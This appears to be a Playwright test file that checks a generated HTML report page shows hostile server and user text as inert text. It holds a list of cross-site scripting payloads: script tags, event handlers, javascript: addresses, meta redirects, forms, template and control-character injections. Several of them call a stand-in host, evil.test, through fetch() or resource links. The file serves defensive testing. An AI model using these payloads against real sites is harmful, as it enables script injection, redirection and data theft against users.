"""Whatever a server sends and a user types, the page shows it and runs nothing of it."""

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import expect

from tests.browser.conftest import Opened
from tests.reports.conftest import HOSTILE, a_clause, a_finding, a_target

Open = Callable[..., Opened]
Make = Callable[..., Path]

RUNS = "window.taken = true; alert(1); fetch('https://evil.test/')"
ATTACKS = {
    "script": f"<script>{RUNS}</script>",
    "end of the script": f"</script><script>{RUNS}</script>",
    "end of the title": f"</title></style></textarea></noscript><script>{RUNS}</script>",
    "image": f'<img src=x onerror="{RUNS}">',
    "remote image": "<img src='https://evil.test/x.png'><link rel=stylesheet href='//evil.test/x.css'>",
    "attribute": f'" onmouseover="{RUNS}" autofocus onfocus="{RUNS}" x="',
    "single quotes": f"' onclick='{RUNS}' x='",
    "comment": f"<!-- --><script>{RUNS}</script><!--",
    "comment in a script": f"<!--<script>{RUNS}",
    "CDATA": f"]]><script>{RUNS}</script><![CDATA[",
    "address": f"javascript:{RUNS}",
    "template": "{{ 7*7 }} {% raw %} ${7*7} `${alert(1)}`",
    "frame": f"<iframe srcdoc='<script>parent.taken=true</script>'></iframe><svg onload='{RUNS}'>",
    "meta": "<meta http-equiv=refresh content='0;url=https://evil.test/'><base href='https://evil.test/'>",
    "form": "<form action='https://evil.test/'><button>Clear filter</button></form>",
    "controls": "\x1b[31mred\x1b]0;title\x07\x9b2J\x00\x7f\r\n\t\u202egnp.exe\u2066\u200b\ufeff\u2028",
    "everything": HOSTILE,
}

# How many elements there are that could run or fetch something.
ACTIVE = "document.querySelectorAll('script, img, svg[onload], iframe, link, base, meta, form').length"


def hostile_page(make: Make, word: str) -> Path:
    """Make a page with a text wherever a server or a user has a say."""
    answer = f"HTTP/1.1 200 {word}\r\nServer: {word}\r\n{word}: {word}\r\n\r\n{word}"
    data = answer.encode("latin-1", "replace").decode("latin-1")
    events: list[dict[str, Any]] = [
        {"at": 0.0, "kind": "CONNECTED", "note": word},
        {"at": 0.1, "kind": "SENT", "size": len(data), "data": data, "note": word},
        {"at": 0.2, "kind": "RECEIVED", "size": len(data), "data": data, "cut": 5, "tail": data},
        {"at": 0.3, "kind": word, "note": word},
    ]
    words: dict[str, Any] = dict.fromkeys(
        ("title", "why", "expected", "observed", "reason", "crash", "ending", "topic"), word
    )
    clauses = [a_clause(**dict.fromkeys(("id", "source", "section", "text", "keyword"), word), link=word)]
    whole = words | {"events": events, "clauses": [*clauses, a_clause()], "tags": [word]}
    twin = {**whole, "events": [{**events[1], "data": f"{data}\r\nmore"}], "control": word}
    return make(
        a_finding("a.odd", "FAIL", control="a.twin", **whole),
        a_finding("a.twin", **twin),
        a_finding(f"a.{word}", "WARN", **whole, control=word, target=word),
        targets=[
            a_target(
                url=f"http://a.test/{word}", server=word, witness=word, verified=False, second_opinion=word
            ),
            a_target(name=word, url=word, server=word, embedded=True, capabilities=[word]),
        ],
        options={word: word} | dict.fromkeys(("pace", "header", "ca", "sni", "host", "spawn", "cert"), word),
        wirecheck=word,
        started=word,
        plan=[f"plain/{word}"],
        planned=4,
        valid=False,
    )


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_runs_and_nothing_leaves(open_page: Open, make: Make, attack: str) -> None:
    opened = open_page(hostile_page(make, ATTACKS[attack]))
    page = opened.page
    elements = page.evaluate(
        "document.querySelectorAll('script, img, iframe, link, base, meta, form').length"
    )
    page.get_by_role("button", name="Open all").click()
    expect(page.locator(".scenario[open] .body .permalink")).to_have_count(3)
    page.evaluate("for (const made of document.querySelectorAll('.hex, .more')) made.click()")
    page.locator("select[name=tag]").select_option(index=1)
    page.get_by_role("searchbox", name="Text").fill(ATTACKS[attack])
    opened.go("specification")
    expect(page.locator("#by-specification .section").first).to_be_visible()
    page.evaluate("for (const made of document.querySelectorAll('details')) made.open = true")
    page.mouse.move(200, 200)
    assert page.evaluate("window.taken") is None
    assert (
        page.evaluate("document.querySelectorAll('script, img, iframe, link, base, meta, form').length")
        == elements
    )
    for address in page.eval_on_selector_all("a", "links => links.map(link => link.href)"):
        assert address.startswith((page.url.partition("#")[0], "https://www.rfc-editor.org/"))


def test_what_a_server_sent_is_on_the_page_as_text(open_page: Open, make: Make) -> None:
    page = open_page(hostile_page(make, ATTACKS["script"])).page
    body = page.locator('[id="plain/a.odd"] .body')
    expect(body.locator("tr.received pre").first).to_contain_text(f"HTTP/1.1 200 {ATTACKS['script']}")
    expect(body.locator(".command").last).to_contain_text(r"<script>window.taken = true; alert(1)")


def test_the_watch_sees_what_it_looks_for(open_page: Open, tmp_path: Path) -> None:
    path = tmp_path / "bad.html"
    policy = "default-src 'none'; script-src 'unsafe-inline'"
    path.write_text(
        f'<meta http-equiv="Content-Security-Policy" content="{policy}">'
        "<html data-ready><body><script>alert(1); console.log('x');"
        "fetch('https://evil.test/').catch(() => 0);"
        "document.body.append(Object.assign(new Image(), {src: 'https://evil.test/x.png'}));"
        "setTimeout(() => { document.title = 'later'; throw new Error('y'); })</script>"
    )
    opened = open_page(path)
    expect(opened.page).to_have_title("later")
    seen = " ".join(opened.wrongs)
    for wrong in ("dialog: 1", "console: x", "error: y"):
        assert wrong in seen
    assert "img-src: https://evil.test/x.png" in " ".join(opened.page.evaluate("window.violations"))
    opened.wrongs.clear()
    opened.page.evaluate("window.violations = []")
